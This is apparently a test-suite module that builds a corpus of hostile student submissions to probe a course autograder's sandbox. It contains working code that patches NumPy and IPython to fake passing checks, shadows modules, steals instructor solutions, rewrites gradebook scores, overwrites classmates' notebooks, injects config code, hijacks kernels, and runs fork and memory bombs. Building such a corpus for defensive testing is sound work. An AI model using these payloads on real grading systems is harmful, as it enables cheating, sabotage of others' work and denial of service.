"""The attack corpus of issue 7: unit-01 submissions that try to cheat the grader or harm others.

Each :class:`Attack` is a realistic attempt, built from the unit's solution notebook
(``build/source`` of a course made by ``make_course``) or its blank release, with the
scores its *real work* earns under the finished grading design (a bubblewrap sandbox per
kernel plus the trusted re-check of grade cells outside the kernel) and the note the
grading log and report must show for it. A submission that patches the checks but whose
functions are correct still earns full points; one whose functions are wrong earns only
what is right.

Notes: an attack that fools the checks inside the kernel must be caught by the re-check
(:data:`RECHECK`); a crash or a limit is named as such; a file that shadows a module is
named by its file name; damaged, forged or renamed cells are named by their grade id. An
attack that the sandbox simply leaves with nothing to reach needs no note: the proof is
that it printed no :data:`MARK` and that the course, the gradebook and the classmates are
untouched (the test checks those for the whole batch).

Attacks that try to reach the course (the gradebook, the instructor's sources, classmates'
files, ``nbgrader_config.py``) look for it the way a real attack would: in the parent
folders of the kernel's working folder and in the working folders of the kernel's
ancestor processes. To keep the corpus from ever touching another course on this
machine, they only act on a folder holding :data:`TARGET` (the test and the benchmark put
it in their throwaway course) or on the grader's own scratch copy of it. An attack that
reached its goal prints :data:`MARK`; the test asserts that no output holds it.

Used by ``tests/grading/test_attack_corpus.py`` (graded by ``dlcourse autograde``) and
``benchmarks/attack_corpus_stock.py`` (graded by stock ``nbgrader autograde``).
Run as a script, this module is the process supervisor both use (see :func:`supervise`).
"""

from __future__ import annotations

import copy
import hashlib
import json
import os
import sqlite3
import subprocess
import sys
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import nbformat

UNIT = "01_linear_regression"
NOTEBOOK = "linear_regression.ipynb"
POINTS = {"predict": 1, "squared_errors": 1, "mse_loss": 1, "mse_gradients": 2, "gradient_descent_step": 1,
          "train_gradient_descent": 2, "sample_minibatch": 1, "train_sgd": 2}
MAX_SCORE = sum(POINTS.values())
# Cheap limits for the suite: honest cells take well under a second each.
CELL_TIMEOUT_S, NOTEBOOK_TIMEOUT_S, MEMORY_MB = 8, 60, 1500
LIMIT_OPTIONS = ["--cell-timeout", str(CELL_TIMEOUT_S), "--notebook-timeout", str(NOTEBOOK_TIMEOUT_S),
                 "--memory-mb", str(MEMORY_MB)]
TARGET = ".attack-corpus-target"     # the only course an attack may touch holds this file
MARK = "ATTACK-SUCCEEDED"            # printed by an attack that reached its goal
BACKGROUND_DELAY_S = 10              # the background process acts this long after it starts
ENV_SELECT = "ATTACK_CORPUS"         # comma-separated attack names: grade only those (debugging)
EXIT_GRACE_S = 5                     # processes may take this long to go after the grader exits

# Notes the finished design writes (substrings of the grading log's notes column).
RECHECK = "failed the grader's re-check"
KERNEL_DIED = "the kernel died"
OWN_WORK = "own-work rule"


# --------------------------------------------------------------------------- expected scores

def earns(**scores: float) -> dict[str, float]:
    """Full points for every grade cell except the ones given."""
    return {**{grade_id: float(points) for grade_id, points in POINTS.items()},
            **{k: float(v) for k, v in scores.items()}}


def earns_only(*grade_ids: str) -> dict[str, float]:
    """Full points for the grade cells named, zero for the others."""
    return {grade_id: float(points if grade_id in grade_ids else 0) for grade_id, points in POINTS.items()}


NOTHING = earns_only()


# --------------------------------------------------------------------------- notebooks

@dataclass(frozen=True)
class Sources:
    """The notebooks attacks are built from."""

    solution: nbformat.NotebookNode
    release: nbformat.NotebookNode
    probe_port: int = 0              # a :class:`NetworkProbe` the network attack tries to reach

    @classmethod
    def load(cls, course: Path, probe_port: int = 0) -> "Sources":
        return cls(nbformat.read(course / "build" / "source" / UNIT / NOTEBOOK, 4),
                   nbformat.read(course / "notebooks" / UNIT / NOTEBOOK, 4), probe_port)


def _grade_id(cell) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def _index(notebook, grade_id: str) -> int:
    return next(i for i, cell in enumerate(notebook.cells) if _grade_id(cell) == grade_id)


def _edit(notebook, replace: dict[str, str] | None = None, prepend: dict[str, str] | None = None,
          after: dict[str, list[str]] | None = None):
    """A copy of ``notebook``: answer or test cells replaced or prefixed, new code cells inserted after cells."""
    notebook = copy.deepcopy(notebook)
    for cell in notebook.cells:
        grade_id = _grade_id(cell)
        if replace and grade_id in replace:
            cell.source = replace[grade_id]
        if prepend and grade_id in prepend:
            cell.source = prepend[grade_id] + cell.source
    for grade_id, sources in (after or {}).items():
        index = _index(notebook, grade_id)
        notebook.cells[index + 1:index + 1] = [nbformat.v4.new_code_cell(source) for source in sources]
    return notebook


def _ipynb(notebook) -> bytes:
    return (json.dumps(notebook, indent=1, ensure_ascii=False) + "\n").encode()


def _submission(notebook, **extra: str | bytes) -> dict[str, bytes]:
    """The files of a submission folder: the notebook and any extra files (``a/b.py`` keys)."""
    files = {NOTEBOOK: _ipynb(notebook)}
    for name, content in extra.items():
        files[name] = content.encode() if isinstance(content, str) else content
    return files


# Answers with the right shapes and wrong values: what an attacker hopes the tampered checks accept.
GARBAGE = {
    "predict_answer": "def predict(X, w, b):\n    return np.zeros(X.shape[0])\n",
    "squared_errors_answer": "def squared_errors(y_pred, y):\n    return np.zeros_like(y_pred)\n",
    "mse_loss_answer": "def mse_loss(y_pred, y):\n    return 0.0\n",
    "mse_gradients_answer": "def mse_gradients(X, y, w, b):\n    return np.zeros(X.shape[1]), 0.0\n",
    "gradient_descent_step_answer": "def gradient_descent_step(w, b, dw, db, learning_rate):\n    return w, b\n",
    "train_gradient_descent_answer": ("def train_gradient_descent(X, y, learning_rate, max_steps, tolerance):\n"
                                      "    return np.zeros(X.shape[1]), 0.0, [0.0] * (max_steps + 1)\n"),
    "sample_minibatch_answer": ("def sample_minibatch(X, y, batch_size, rng):\n"
                                "    rows = rng.integers(0, X.shape[0], size=batch_size)   # repeats rows\n"
                                "    return X[rows], y[rows]\n"),
    "train_sgd_answer": ("def train_sgd(X, y, learning_rate, batch_size, num_epochs, seed):\n"
                         "    return np.zeros(X.shape[1]), 0.0, [0.0] * (num_epochs + 1)\n"),
}
ANSWERS = list(GARBAGE)


def _garbage(*answer_ids: str) -> dict[str, str]:
    """GARBAGE for the answer cells named (all of them when none are)."""
    return {k: GARBAGE[k] for k in (answer_ids or ANSWERS)}


def _marker(what: str) -> str:
    """Code that prints MARK; the literal never appears in the cell's source (tracebacks show source)."""
    head, tail = MARK.split("-", 1)
    return f"print({head + '-'!r} + {tail!r}, {what})"


# Finds courses the way an attack would; acts only on the test's marked course or the grader's scratch copy.
FIND_COURSES = f'''\
def _courses():
    """Course folders within reach: parents of this folder, working folders of ancestor processes."""
    import os
    folders, here = [], os.getcwd()
    while True:
        folders.append(here)
        if os.path.dirname(here) == here:
            break
        here = os.path.dirname(here)
    pid = os.getpid()
    for _ in range(6):
        try:
            with open(f"/proc/{{pid}}/stat") as stat:
                pid = int(stat.read().rsplit(")", 1)[1].split()[1])
            folders.append(os.readlink(f"/proc/{{pid}}/cwd"))
        except (OSError, ValueError, IndexError):
            break
    return [f for f in dict.fromkeys(folders) if os.path.isfile(os.path.join(f, "gradebook.db"))
            and (os.path.isfile(os.path.join(f, {TARGET!r}))
                 or os.path.basename(f).startswith("dlcourse-grade-"))]
'''

PATCH_NUMPY_BUILTINS = '''\
import builtins
import course_lib.linear
numpy_module = __import__("numpy")
numpy_module.allclose = lambda *args, **kwargs: True
numpy_module.isclose = lambda a, b, *args, **kwargs: numpy_module.ones(numpy_module.broadcast(a, b).shape, bool)
numpy_module.testing.assert_allclose = lambda *args, **kwargs: None
_unique = numpy_module.unique            # no repeats, as far as the checks can tell
numpy_module.unique = lambda values, *args, **kwargs: (_unique(values, *args, **kwargs) if args or kwargs
                                                       else numpy_module.asarray(values))
builtins.abs = lambda value: 0 * value
# float() everywhere breaks NumPy's dtype=float; where the reference losses call it, every loss is 0
course_lib.linear.float = lambda value=0.0: 0.0
'''

PASSING_CHECKS = '''\
def _passes(*args, **kwargs):
    print("\\u2713 check passed")
'''

FAKE_CHECKS_MODULE = PASSING_CHECKS + '''\
import sys, types
_fake = types.ModuleType("course_lib.checks.linear")
for _name in ("predict", "squared_errors", "mse_loss", "mse_gradients", "gradient_descent_step",
              "train_gradient_descent", "sample_minibatch", "train_sgd"):
    setattr(_fake, "check_" + _name, _passes)
sys.modules["course_lib.checks.linear"] = _fake
import course_lib.checks
course_lib.checks.linear = _fake
'''

INPUT_TRANSFORMER = '''\
def _drop_checks(lines):
    """Remove every line that calls or imports a check, and every assert."""
    return [line for line in lines if "check_" not in line and not line.lstrip().startswith("assert ")]
get_ipython().input_transformers_cleanup.append(_drop_checks)
'''

AST_TRANSFORMER = '''\
import ast
class _NoChecks(ast.NodeTransformer):
    """Turn asserts and check calls of every later cell into `pass`."""
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
    def visit_Expr(self, node):
        call = node.value
        if isinstance(call, ast.Call) and isinstance(call.func, ast.Name) and call.func.id.startswith("check_"):
            return ast.copy_location(ast.Pass(), node)
        return node
get_ipython().ast_transformers.append(_NoChecks())
'''

SILENT_ERRORS = '''\
_shell = get_ipython()
_shell.showtraceback = lambda *args, **kwargs: None          # no error output
_run_cell_async = _shell.run_cell_async
async def _always_ok(*args, **kwargs):                        # and the reply says "ok"
    result = await _run_cell_async(*args, **kwargs)
    result.error_in_exec = None
    return result
_shell.run_cell_async = _always_ok
'''

SHADOW_NUMPY = '''\
"""Stands in for NumPy: loads the real one, then makes every comparison pass."""
import importlib.machinery
import importlib.util
import os
import sys

_here = os.path.dirname(os.path.abspath(__file__))
_spec = importlib.machinery.PathFinder.find_spec(
    "numpy", [p for p in sys.path if os.path.abspath(p or ".") != _here])
_real = importlib.util.module_from_spec(_spec)
sys.modules["numpy"] = _real
_spec.loader.exec_module(_real)
_real.allclose = lambda *args, **kwargs: True
_real.isclose = lambda a, b, *args, **kwargs: _real.ones(_real.broadcast(a, b).shape, bool)
_unique = _real.unique
_real.unique = lambda values, *args, **kwargs: (_unique(values, *args, **kwargs) if args or kwargs
                                                else _real.asarray(values))
'''

SHADOW_LAUNCHER = '''\
"""Stands in for the kernel launcher: makes every course check pass, then starts the real kernel."""
import os
import runpy
import sys

_here = os.path.dirname(os.path.abspath(__file__))
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != _here]
import course_lib.checks.linear as _checks


def _passes(*args, **kwargs):
    print("\\u2713 check passed")


for _name in dir(_checks):
    if _name.startswith("check_"):
        setattr(_checks, _name, _passes)
runpy.run_module("ipykernel_launcher", run_name="__main__", alter_sys=True)
'''

SHADOW_COURSE_LIB = '''\
"""Stands in for the course library: loads the installed one, then makes every check pass."""
import os
import sys

_here = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != _here]
del sys.modules["course_lib"]
import course_lib as _real
import course_lib.checks.linear as _checks


def _passes(*args, **kwargs):
    print("\\u2713 check passed")


for _name in dir(_checks):
    if _name.startswith("check_"):
        setattr(_checks, _name, _passes)
sys.modules["course_lib"] = _real
'''

ONLY_WHEN_GRADED = '''\
import os
if "NBGRADER_EXECUTION" in os.environ:      # set by nbgrader while it grades
    {mark}
''' + "\n".join("    " + line for line in FAKE_CHECKS_MODULE.splitlines()) + "\n"

STEAL_SOLUTION = FIND_COURSES + '''\
def _steal(answer_id):
    """Run the instructor's solution cell ``answer_id`` from any source notebook within reach."""
    import glob, json, os
    for course in _courses():
        for path in glob.glob(os.path.join(course, "**", "source", "**", "*.ipynb"), recursive=True):
            for cell in json.load(open(path))["cells"]:
                source = "".join(cell["source"])
                if cell["metadata"].get("nbgrader", {}).get("grade_id") == answer_id and "BEGIN SOLUTION" in source:
                    exec(source, globals())
                    {mark}
                    return
    print("no instructor source within reach")
'''

READ_HIDDEN_TESTS = FIND_COURSES + '''\
import os, sqlite3
for _course in _courses():
    _db = sqlite3.connect(os.path.join(_course, "gradebook.db"), timeout=30)
    _hidden = [name for name, source in _db.execute("SELECT name, source FROM source_cell")
               if "BEGIN HIDDEN TESTS" in (source or "")]
    if _hidden:
        {mark}
        print("".join(source for _, source in _db.execute("SELECT name, source FROM source_cell")))
'''

GRADEBOOK_SCORES = FIND_COURSES + '''\
import os, sqlite3
_owner = ("(SELECT sa.student_id FROM submitted_notebook sn JOIN submitted_assignment sa "
          "ON sn.assignment_id = sa.id WHERE sn.id = {{row}}.notebook_id)")
for _course in _courses():
    _db = sqlite3.connect(os.path.join(_course, "gradebook.db"), timeout=30)
    _db.executescript(f"""
        CREATE TRIGGER IF NOT EXISTS keep_grades_fair AFTER UPDATE OF auto_score ON grade BEGIN
          UPDATE grade SET manual_score = CASE WHEN {{_owner.format(row="NEW")}} = '{me}'
            THEN (SELECT max_score FROM grade_cells WHERE id = NEW.cell_id) ELSE 0 END
          WHERE id = NEW.id;
        END;
        UPDATE grade SET manual_score = 0 WHERE {{_owner.format(row="grade")}} != '{me}';
    """)
    _db.commit()
    {mark}
'''

REWRITE_TESTS = FIND_COURSES + '''\
import os, sqlite3
from nbformat.v4 import new_code_cell
from nbgrader.utils import compute_checksum
for _course in _courses():
    _db = sqlite3.connect(os.path.join(_course, "gradebook.db"), timeout=30)
    _rows = _db.execute("SELECT sc.id, sc.name, gc.max_score, sc.source FROM source_cell sc "
                        "JOIN base_cell bc ON bc.name = sc.name AND bc.notebook_id = sc.notebook_id "
                        "JOIN grade_cells gc ON gc.id = bc.id").fetchall()
    for _id, _name, _points, _source in _rows:
        _new = _source.splitlines()[0] + "\\n"          # keep the import, drop every check
        _cell = new_code_cell(_new, metadata={{"nbgrader": {{"grade": True, "solution": False, "locked": True,
                                                          "grade_id": _name, "points": _points}}}})
        _db.execute("UPDATE source_cell SET source = ?, checksum = ? WHERE id = ?",
                    (_new, compute_checksum(_cell), _id))
    _db.commit()
    if _rows:
        {mark}
'''

OVERWRITE_CLASSMATES = FIND_COURSES + '''\
import glob, json, os
for _course in _courses():
    for _path in glob.glob(os.path.join(_course, "*", "*", "{unit}", "*.ipynb")):
        _parts = _path.split(os.sep)
        if _parts[-4] not in ("submitted", "autograded") or _parts[-3] == "{me}":
            continue
        _nb = json.load(open(_path))
        for _cell in _nb["cells"]:
            if _cell["metadata"].get("nbgrader", {{}}).get("solution"):
                _cell["source"] = "raise NotImplementedError()"
        _nb["metadata"]["overwritten_by"] = "{me}"
        os.chmod(_path, 0o644)
        json.dump(_nb, open(_path, "w"))
        {mark}
'''

WRITE_CONFIG = FIND_COURSES + '''\
import os
for _course in _courses():
    with open(os.path.join(_course, "nbgrader_config.py"), "a") as _config:
        _config.write("\\nimport pathlib  # runs in the instructor's next nbgrader command\\n"
                      "pathlib.Path(__file__).with_name('config-code-ran').touch()\\n")
    {mark}
'''

BACKGROUND = FIND_COURSES + '''\
import os, sqlite3, time
_targets = _courses()
if os.fork() == 0:                     # double fork: the grandchild belongs to nobody
    os.setsid()
    if os.fork() == 0:
        try:
            time.sleep({delay})
            for _course in _targets:
                try:
                    open(os.path.join(_course, "background-was-here"), "w").write("{me}")
                    _db = sqlite3.connect(os.path.join(_course, "gradebook.db"), timeout=30)
                    _db.execute("UPDATE grade SET manual_score = 0")
                    _db.commit()
                except Exception:           # the grader's scratch copy is gone by now
                    pass
        finally:
            os._exit(0)
    os._exit(0)
os.wait()
print("a background process will act in {delay} s")
'''

HIJACK = '''\
import os, threading, time
def _graded_here(pid):
    """Whether an ancestor of process ``pid`` works in the test's course."""
    for _ in range(6):
        try:
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
            if os.path.isfile(os.path.join(os.readlink(f"/proc/{pid}/cwd"), "{target}")):
                return True
        except (OSError, ValueError, IndexError):
            return False
    return False
def _hijack():
    """Shut down every other grading kernel of this course (found in /proc) through its connection file."""
    from jupyter_client import BlockingKernelClient
    done = set()
    deadline = time.time() + 20
    while time.time() < deadline:
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                argv = open(f"/proc/{pid}/cmdline", "rb").read().decode().split("\\0")
            except OSError:
                continue
            if int(pid) == os.getpid() or "ipykernel_launcher" not in argv or "-f" not in argv:
                continue
            connection = argv[argv.index("-f") + 1]
            if connection in done or not _graded_here(int(pid)):
                continue
            done.add(connection)
            try:
                client = BlockingKernelClient(connection_file=connection)
                client.load_connection_file()
                client.start_channels()
                client.shutdown()
                {mark}
            except Exception as error:
                print("could not reach", connection, error)
        time.sleep(0.3)
threading.Thread(target=_hijack, daemon=True).start()
'''

FORK_BOMB = '''\
import os, time
_child = False
for _ in range(9):                  # up to 2**9 processes, each forking on
    try:
        if os.fork() == 0:
            _child = True
    except OSError as error:
        print("fork failed:", error)
        break
if _child:
    try:
        time.sleep(30)
    finally:
        os._exit(0)
print("forked")
'''

CHILD_MEMORY = '''\
import os, time
import numpy as np
_children = []
for _ in range(3):                  # each child stays under the per-process memory limit
    pid = os.fork()
    if pid == 0:
        try:
            _block = np.ones(110_000_000)          # 880 MB, touched
            time.sleep(60)
        finally:
            os._exit(0)
    _children.append(pid)
'''
# The children touch their memory while the next cells wait, each under the cell limit: on a
# freshly started VM first-touch page faults cost ~2 s per 200 MB (measured), so one cell
# waiting for all 2.6 GB would meet the 8 s cell limit before the resident-memory watchdog.
CHILD_MEMORY_WAIT = "import time\ntime.sleep(5)\n"

DEAF_LOOP = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n"

NETWORK = '''\
import socket
try:                                 # the grading machine's loopback: a listener of the test's own
    socket.create_connection(("127.0.0.1", {port}), timeout=3).close()
    {mark}
except OSError as error:
    print("no network:", error)
'''

TAMPER_EVIDENCE = '''\
import os
_record = os.environ.get("DLCOURSE_EVIDENCE_FILE")
if _record:
    with open(_record, "a") as _file:
        _file.write("[" * 100_000 + "\\n")                        # deep nesting for the parser
        _file.write('{"key": "predict:0", "outcome": {"value": "' + "x" * 5_000_000 + '"}}\\n')
        _file.write("not json at all\\n" * 100_000)
'''


# --------------------------------------------------------------------------- the corpus

@dataclass(frozen=True)
class Attack:
    """One submission of the corpus and what grading it must give."""

    name: str                                         # the student id
    description: str                                  # one line
    build: Callable[[Sources], dict[str, bytes]]      # the files of the submission folder
    expected: dict[str, float]                        # grade id -> points its real work earns
    note: str | None = None                           # substring of its notes in the log and report
    max_notebook_bytes: int | None = None             # size bound for its autograded notebook
    delay_s: int = 0                                  # it may act this long after its grading

    @property
    def total(self) -> float:
        return sum(self.expected.values())


def _v3(sources: Sources) -> bytes:
    return nbformat.writes(nbformat.convert(copy.deepcopy(sources.solution), 3), version=3).encode()


def _delete(notebook, *grade_ids: str):
    notebook = copy.deepcopy(notebook)
    notebook.cells = [c for c in notebook.cells if _grade_id(c) not in grade_ids]
    return notebook


def _edited_tests(sources: Sources):
    notebook = _edit(sources.release, replace={
        **_garbage(),
        "setup": sources.solution.cells[_index(sources.solution, "setup")].source
        + "\nnp.allclose = lambda *args, **kwargs: True\n",
        **{grade_id: 'print("\\u2713 all checks passed")\n' for grade_id in POINTS}})
    return _submission(notebook)


def _duplicated(sources: Sources):
    notebook = copy.deepcopy(sources.solution)
    index = _index(notebook, "predict")
    for _ in range(3):
        twin = copy.deepcopy(notebook.cells[index])
        twin["id"] = f"predict-copy-{_}"
        notebook.cells.insert(index + 1, twin)
    return _submission(notebook)


def _moved_to_end(sources: Sources):
    notebook = copy.deepcopy(sources.solution)
    moved = [notebook.cells[_index(notebook, g)] for g in ("predict", "squared_errors")]
    notebook.cells = [c for c in notebook.cells if c not in moved] + moved
    return _submission(notebook)


def _renamed(sources: Sources):
    notebook = _edit(sources.solution, replace=_garbage("train_sgd_answer"))
    cell = notebook.cells[_index(notebook, "train_sgd")]
    cell.metadata.nbgrader["grade_id"] = "train_sgd_bonus"
    return _submission(notebook)


def _forged_flags(sources: Sources):
    notebook = _edit(sources.solution, replace={**_garbage("mse_gradients_answer"), "mse_gradients": 'print("ok")\n'})
    meta = notebook.cells[_index(notebook, "mse_gradients")].metadata.nbgrader
    meta.update(points=20, solution=True, locked=False)
    return _submission(notebook)


def _forged_scores(sources: Sources):
    notebook = _edit(sources.solution, replace=_garbage(*ANSWERS[3:]))
    for cell in notebook.cells:
        if _grade_id(cell) in POINTS:
            cell.metadata.nbgrader["score"] = cell.metadata.nbgrader["points"]
            cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="\u2713 passed\n")]
    notebook.metadata["nbgrader"] = {"score": MAX_SCORE, "max_score": MAX_SCORE,
                                     "timestamp": "2000-01-01 00:00:00.000000 UTC"}
    return _submission(notebook)


def _faked_outputs(sources: Sources):
    notebook = _edit(sources.release, prepend={"predict_answer": "import os\nos._exit(0)\n"})
    for cell in notebook.cells:
        if cell.cell_type == "code":
            cell.execution_count = 1
            cell.outputs = [nbformat.v4.new_output("stream", name="stdout",
                                                   text=f"\u2713 passed (FAKED-OUTPUT {_grade_id(cell)})\n")]
    return _submission(notebook)


def _steal(sources: Sources):
    replace = {answer: f'_steal("{answer}")\n' for answer in ANSWERS}
    replace["predict_answer"] = (_coded(STEAL_SOLUTION, "steal_solution", "'ran the instructor solution of', answer_id")
                                 + replace["predict_answer"])
    return _submission(_edit(sources.release, replace=replace))


def _with_attack(base: str, code: str, garbage: bool = True, at: str = "predict_answer"):
    """A builder: the solution (base="solution") or release, wrong answers unless ``garbage`` is False,
    with ``code`` run first in the ``at`` answer cell."""
    def build(sources: Sources):
        notebook = sources.solution if base == "solution" else sources.release
        replace = _garbage() if garbage else {}
        start = replace.get(at, notebook.cells[_index(notebook, at)].source)
        return _submission(_edit(notebook, replace={**replace, at: code + start}))
    return build


def _beside(path: str, content: str):
    """A builder: wrong answers, and a file at ``path`` next to the notebook."""
    return lambda sources: _submission(_edit(sources.release, replace=_garbage()), **{path: content})


def _answers(answers: dict[str, str]):
    """A builder: the solution with the answer cells named replaced."""
    return lambda sources: _submission(_edit(sources.solution, replace=answers))


def _extra_cells(cells_after: dict[str, list[str]]):
    """A builder: the solution with new code cells after the cells named."""
    return lambda sources: _submission(_edit(sources.solution, after=cells_after))


def _coded(template: str, name: str, what: str) -> str:
    """``template`` with the attacker's name, the unit and its success marker (printing ``what``) filled in.

    Doubled braces become single ones: templates that hold f-strings double theirs.
    """
    return (template.replace("{me}", name).replace("{unit}", UNIT).replace("{target}", TARGET)
            .replace("{delay}", str(BACKGROUND_DELAY_S)).replace("{mark}", _marker(what))
            .replace("{{", "{").replace("}}", "}"))


CORPUS: list[Attack] = [
    # ---- fooling the checks inside the kernel: the trusted re-check judges the recorded results
    Attack("patch_numpy_builtins", "wrong answers; NumPy's comparisons and builtins abs/float patched to agree",
           _with_attack("release", PATCH_NUMPY_BUILTINS), NOTHING, RECHECK),
    Attack("patch_partial_work", "first three answers right, the rest wrong; NumPy and builtins patched",
           lambda s: _submission(_edit(s.solution, replace={
               **_garbage(*ANSWERS[3:]),
               "mse_gradients_answer": PATCH_NUMPY_BUILTINS + GARBAGE["mse_gradients_answer"]})),
           earns_only("predict", "squared_errors", "mse_loss"), RECHECK),
    Attack("patch_correct_work", "every answer right, and NumPy and builtins patched anyway",
           _with_attack("solution", PATCH_NUMPY_BUILTINS, garbage=False), earns()),
    Attack("input_transformer", "wrong answers; an IPython input transformer deletes check lines from later cells",
           _with_attack("release", INPUT_TRANSFORMER), NOTHING, RECHECK),
    Attack("ast_transformer", "wrong answers; an IPython AST transformer turns asserts and check calls into pass",
           _with_attack("release", AST_TRANSFORMER), NOTHING, RECHECK),
    Attack("silent_errors", "blank answers; showtraceback replaced and every cell's result marked successful",
           _with_attack("release", SILENT_ERRORS, garbage=False), NOTHING, RECHECK),
    Attack("sys_modules_checks", "wrong answers; sys.modules['course_lib.checks.linear'] replaced by passing checks",
           _with_attack("release", FAKE_CHECKS_MODULE), NOTHING, RECHECK),
    Attack("evidence_tamper", "wrong answers; junk, deep nesting and a 5 MB line appended to the evidence record",
           _with_attack("release", TAMPER_EVIDENCE), NOTHING),
    # ---- shadowing modules with files next to the notebook
    Attack("shadow_numpy", "wrong answers; a numpy.py next to the notebook loads NumPy and patches comparisons",
           _beside("numpy.py", SHADOW_NUMPY), NOTHING, "numpy.py"),
    Attack("shadow_kernel_launcher", "wrong answers; an ipykernel_launcher.py next to the notebook patches the "
           "checks before starting the real kernel",
           _beside("ipykernel_launcher.py", SHADOW_LAUNCHER), NOTHING, "ipykernel_launcher.py"),
    Attack("shadow_course_lib", "wrong answers; a course_lib/ package next to the notebook patches the checks",
           _beside("course_lib/__init__.py", SHADOW_COURSE_LIB), NOTHING, "course_lib"),
    Attack("only_when_graded", "wrong answers; replaces the checks only when NBGRADER_EXECUTION is set",
           _with_attack("release", _coded(ONLY_WHEN_GRADED, "only_when_graded", "'grader detected'")),
           NOTHING),
    # ---- reaching the instructor's files, the gradebook and classmates
    Attack("steal_solution", "each answer cell runs the instructor's solution cell read from a source/ notebook",
           _steal, NOTHING),
    Attack("read_hidden_tests", "wrong answers; reads the hidden tests from gradebook.db and prints them",
           _with_attack("release", _coded(READ_HIDDEN_TESTS, "read_hidden_tests", "'hidden tests of', _hidden")),
           NOTHING),
    Attack("gradebook_scores", "wrong answers; a gradebook trigger gives itself full marks and classmates zero",
           _with_attack("release", _coded(GRADEBOOK_SCORES, "gradebook_scores", "'gradebook written'")),
           NOTHING),
    Attack("rewrite_tests", "wrong answers; rewrites the gradebook's stored tests and recomputes their checksums",
           _with_attack("release", _coded(REWRITE_TESTS, "rewrite_tests", "'tests rewritten'")),
           NOTHING),
    Attack("overwrite_classmates", "wrong answers; blanks classmates' submitted and autograded notebooks",
           _with_attack("release", _coded(OVERWRITE_CLASSMATES, "overwrite_classmates", "'overwrote', _path")),
           NOTHING),
    Attack("write_config", "wrong answers; appends code to nbgrader_config.py for the instructor's next command",
           _with_attack("release", _coded(WRITE_CONFIG, "write_config", "'config written'")),
           NOTHING),
    Attack("hijack_kernels", "wrong answers; shuts down classmates' grading kernels through their connection files",
           lambda s: _submission(_edit(s.release, replace={
               **_garbage(), "predict_answer": _coded(HIJACK, "hijack_kernels", "'shut down', connection")
               + GARBAGE["predict_answer"]}, after={"train_sgd": ["import time\ntime.sleep(6)\n"] * 2})),
           NOTHING),
    # ---- harming the grader's processes
    Attack("kill_grader", "right answers; then SIGKILL to the kernel's parent process (the grader)",
           _extra_cells({"train_sgd": ["import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n"]}), earns()),
    Attack("freeze_grader", "right answers; then SIGSTOP to the kernel's parent process (the grader)",
           _extra_cells({"train_sgd": ["import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)\n"]}), earns()),
    Attack("background_process", "right answers; a double-forked process zeroes every grade after grading ends",
           lambda s: _submission(_edit(s.solution, after={
               "train_sgd": [_coded(BACKGROUND, "background_process", "''")]})),
           earns(), delay_s=BACKGROUND_DELAY_S),
    Attack("os_exit", "right answers; os._exit(0) after the third exercise",
           _extra_cells({"mse_loss": ["import os\nos._exit(0)\n"]}),
           earns_only("predict", "squared_errors", "mse_loss"), KERNEL_DIED),
    Attack("kill_kernel", "right answers; the kernel SIGKILLs itself after the fourth exercise",
           _extra_cells({"mse_gradients": ["import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"]}),
           earns_only("predict", "squared_errors", "mse_loss", "mse_gradients"), KERNEL_DIED),
    Attack("ignore_sigint", "right answers; an endless loop that ignores SIGINT in the third answer cell",
           lambda s: _submission(_edit(s.solution, prepend={"mse_loss_answer": DEAF_LOOP})),
           earns_only("predict", "squared_errors"), "did not respond"),
    Attack("slow_cells", f"right answers; then cells of {CELL_TIMEOUT_S - 2} s each, past the notebook limit",
           _extra_cells({"train_gradient_descent": [f"import time\ntime.sleep({CELL_TIMEOUT_S - 2})\n"]
                         * (NOTEBOOK_TIMEOUT_S // (CELL_TIMEOUT_S - 2) + 1)}),
           earns(sample_minibatch=0, train_sgd=0), f"{NOTEBOOK_TIMEOUT_S} s time limit"),
    # ---- floods and resource bombs
    Attack("output_one_line", "right answers; prints 300 MB on one line",
           _extra_cells({"predict_answer": ['print("x" * 300_000_000)\n']}), earns(), "output",
           max_notebook_bytes=5_000_000),
    Attack("output_many_prints", "right answers; 200 000 separate prints of a training log line",
           _extra_cells({"predict_answer": ['for step in range(200_000):\n'
                                            '    print(f"step {step:6d}: loss {1 / (step + 1):.8f}, '
                                            'weights [0.1234, 0.5678, 0.9012]")\n']}), earns(), "output",
           max_notebook_bytes=5_000_000),
    # np.empty: the rlimit counts memory asked for, touched or not, so this attack does not depend
    # on how fast the machine hands out fresh pages (on a new VM: ~2 s per 200 MB, over the cell
    # limit before the memory limit); child_memory is the touched, resident case
    Attack("memory_bomb", "right answers; then a list of 200 MB arrays asked for without end",
           _extra_cells({"train_sgd": ["_hoard = []\nwhile True:\n    _hoard.append(np.empty(25_000_000))\n"]}),
           earns(), "memory"),
    Attack("child_memory", "right answers; then three forked children of 880 MB each (each under the rlimit)",
           _extra_cells({"train_sgd": [CHILD_MEMORY, *[CHILD_MEMORY_WAIT] * 6]}), earns(), "memory"),
    Attack("fork_bomb", "right answers; then a fork bomb (every process forks on, up to 512)",
           _extra_cells({"train_sgd": [FORK_BOMB]}), earns()),
    Attack("network", "right answers; then a connection to a listener on the grading machine's loopback",
           lambda s: _submission(_edit(s.solution, after={
               "train_sgd": [_coded(NETWORK, "network", "'connected'").replace("{port}", str(s.probe_port))]})),
           earns()),
    # ---- broken files
    Attack("truncated_json", "the solution notebook cut off half way (an interrupted save)",
           lambda s: {NOTEBOOK: _ipynb(s.solution)[: len(_ipynb(s.solution)) // 2]}, NOTHING, "is not valid JSON"),
    Attack("binary_file", "a zip archive renamed to linear_regression.ipynb",
           lambda s: {NOTEBOOK: b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(range(256)) * 8}, NOTHING,
           "not a text file"),
